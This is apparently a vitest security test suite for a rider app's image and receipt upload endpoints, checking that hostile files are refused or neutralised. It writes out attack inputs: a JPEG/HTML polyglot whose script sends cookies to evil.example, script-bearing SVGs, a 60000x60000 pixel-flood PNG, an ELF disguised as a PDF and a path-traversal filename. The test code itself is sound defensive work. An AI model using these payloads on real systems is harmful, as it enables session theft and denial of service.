// Hostile uploads: each is refused, or accepted only in a neutralised form.
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../test/build-app';
import { type Actor, bearer, jpeg, multipart, pdf, png, registerRider } from '../../test/factories';
import { waitForFiles } from '../../test/wait-for-files';

describe('upload attacks', () => {
  let t: TestApp;
  let rider: Actor;
  beforeAll(async () => {
    t = await buildTestApp('pglite');
    rider = await registerRider(t.app);
  });
  afterAll(() => t.close());

  const upload = async (url: string, field: string, data: Buffer, filename: string, contentType: string) => {
    const body = multipart({}, [{ field, filename, contentType, data }]);
    const res = await t.app.inject({
      method: 'POST',
      url,
      payload: body.payload,
      headers: { ...body.headers, ...bearer(rider.token) },
    });
    // An image is processed by the file queue after the answer; the tests read it back.
    if (res.statusCode === 201) await waitForFiles(t.app);
    return res;
  };
  const fetchBack = (url: string) => t.app.inject({ method: 'GET', url, headers: bearer(rider.token) });

  it('neutralises a JPEG/HTML polyglot: stored re-encoded, served as an image with nosniff', async () => {
    const html =
      '<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>';
    const base = await jpeg({ width: 40, height: 40 });
    // HTML in a comment segment right after SOI, and again after EOI: both survive a naive copy.
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([0, html.length + 2]), Buffer.from(html)]);
    const polyglot = Buffer.concat([base.subarray(0, 2), comment, base.subarray(2), Buffer.from(html)]);
    expect((await sharp(polyglot).metadata()).format).toBe('jpeg');

    const res = await upload('/api/upload/profile-image', 'profileImage', polyglot, 'me.html', 'text/html');
    expect(res.statusCode).toBe(201);
    const served = await fetchBack(`/api/upload/profile-image/${rider.userId}`);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.rawPayload.includes(Buffer.from('<script'))).toBe(false);
    expect(served.rawPayload.includes(Buffer.from('<html'))).toBe(false);
  });

  it('refuses a pixel flood (a tiny PNG declaring 60000x60000) before decoding it', async () => {
    const small = await png(8, 8);
    // Rewrite the IHDR width and height, and its CRC, so the file is valid but enormous on paper.
    const flood = Buffer.from(small);
    flood.writeUInt32BE(60_000, 16);
    flood.writeUInt32BE(60_000, 20);
    flood.writeUInt32BE(crc32(flood.subarray(12, 29)) >>> 0, 29);
    const started = Date.now();
    const res = await upload('/api/upload/profile-image', 'profileImage', flood, 'flood.png', 'image/png');
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('Image dimensions are too large. Please choose a smaller image.');
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('refuses an SVG carrying a script, whatever it claims to be', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>',
    );
    for (const [filename, type] of [
      ['a.svg', 'image/svg+xml'],
      ['a.png', 'image/png'],
      ['a.jpg', 'image/jpeg'],
    ] as const) {
      const res = await upload('/api/upload/profile-image', 'profileImage', svg, filename, type);
      expect(res.statusCode).toBe(415);
      const receipt = await upload('/api/upload/payment-receipt', 'paymentReceipt', svg, filename, type);
      expect(receipt.statusCode).toBe(415);
    }
  });

  it('refuses an executable named as a PDF, and a truncated image', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(500)]);
    const exe = await upload('/api/upload/payment-receipt', 'paymentReceipt', elf, 'receipt.pdf', 'application/pdf');
    expect(exe.statusCode).toBe(415);
    const whole = await jpeg({ width: 200, height: 200 });
    const truncated = await upload(
      '/api/upload/payment-receipt',
      'paymentReceipt',
      whole.subarray(0, 300),
      'r.jpg',
      'image/jpeg',
    );
    expect(truncated.statusCode).toBe(400);
    expect(truncated.json().message).toMatch(/could not be read/);
  });

  it('serves a PDF receipt sandboxed, so it can never run as a page of the site', async () => {
    const res = await upload('/api/upload/payment-receipt', 'paymentReceipt', pdf(), 'r.pdf', 'application/pdf');
    expect(res.statusCode).toBe(201);
    const served = await fetchBack(`/api/upload/payment-receipt/${rider.userId}`);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(String(served.headers['content-security-policy'])).toContain('sandbox');
    expect(served.headers['cache-control']).toBe('private, no-store');
  });

  it('strips a filename of paths and control characters', async () => {
    const res = await upload(
      '/api/upload/profile-image',
      'profileImage',
      await jpeg(),
      '../../etc/pass\u0007wd.jpg',
      'image/jpeg',
    );
    expect(res.statusCode).toBe(201);
    expect(res.json().data.file.originalName).toBe('passwd.jpg');
  });
});
